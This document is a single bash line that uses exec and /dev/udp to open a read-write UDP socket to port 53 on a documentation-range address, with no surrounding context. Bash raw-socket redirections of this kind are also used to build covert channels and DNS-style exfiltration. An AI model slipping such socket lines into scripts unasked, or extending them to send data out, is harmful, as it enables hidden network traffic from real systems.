exec 3<>/dev/udp/192.0.2.1/53
